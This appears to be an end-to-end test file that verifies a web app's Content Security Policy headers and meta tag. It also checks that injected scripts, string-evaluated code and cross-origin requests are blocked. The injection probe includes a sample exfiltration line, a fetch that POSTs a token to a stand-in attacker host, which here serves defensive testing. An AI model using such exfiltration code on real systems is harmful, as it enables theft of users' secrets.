import { expect, test } from './test.ts';
import { env } from './support.ts';

// The SPA runs under a strict Content Security Policy (tools/csp.ts): a <meta> tag in the built
// index.html, and as headers from the preview server. Every page the suite opens reports its
// violations to the preview server; csp-reports.spec.ts, run last, asserts there were none. This
// spec shows the policy is really enforced: what an injected script would try is blocked.

/** csp-reports.spec.ts leaves out the reports from this page's URL. */
const PROBE = '/sign-in?csp-probe=1';

/** What an injected script would try, run in the page (a string: e2e code has no DOM types). */
const INJECTION = `(async () => {
  const violations = [];
  document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
  const script = document.createElement('script');
  script.textContent = 'window.__injected = true';
  document.head.append(script);
  // A string timer compiles in the page's own context (code run from DevTools is exempt from CSP).
  setTimeout('window.__evaluated = true', 0);
  const exfiltrated = await fetch('https://attacker.invalid/steal', { method: 'POST', body: 'token' }).then(() => true, () => false);
  await new Promise((resolve) => setTimeout(resolve, 100));
  return { injected: window.__injected === true, evaluated: window.__evaluated === true, exfiltrated, violations };
})()`;

test('the built page carries the policy, and the server sends the security headers', async ({ request }) => {
  const response = await request.get('/');
  const headers = response.headers();
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
  expect(headers['permissions-policy']).toContain('camera=()');
  const headerPolicy = headers['content-security-policy'] ?? '';
  expect(headerPolicy).toContain("frame-ancestors 'none'");

  const html = await response.text();
  const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1]?.replaceAll('&#39;', "'");
  expect(meta, 'index.html has a CSP meta tag').toBeTruthy();
  const api = new URL(env('E2E_API_URL'));
  for (const directive of ["default-src 'self'", "script-src 'self'", "object-src 'none'", "base-uri 'self'", "img-src 'self' data:", `connect-src 'self' ${api.origin} ws://${api.host}`]) {
    expect(meta).toContain(directive);
  }
  expect(meta).not.toContain('unsafe-inline');
  expect(meta).not.toContain('unsafe-eval');
});

test('an injected inline script, code from a string and a request to another origin are blocked and reported', async ({ page }) => {
  await page.goto(PROBE);
  await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
  await expect(page).toHaveURL(/csp-probe/);
  const outcome = (await page.evaluate(INJECTION)) as { injected: boolean; evaluated: boolean; exfiltrated: boolean; violations: string[] };
  expect(outcome.injected, 'an injected <script> ran').toBe(false);
  expect(outcome.evaluated, 'a string was compiled as code').toBe(false);
  expect(outcome.exfiltrated, 'a request to another origin went out').toBe(false);
  expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src', 'connect-src']));
});
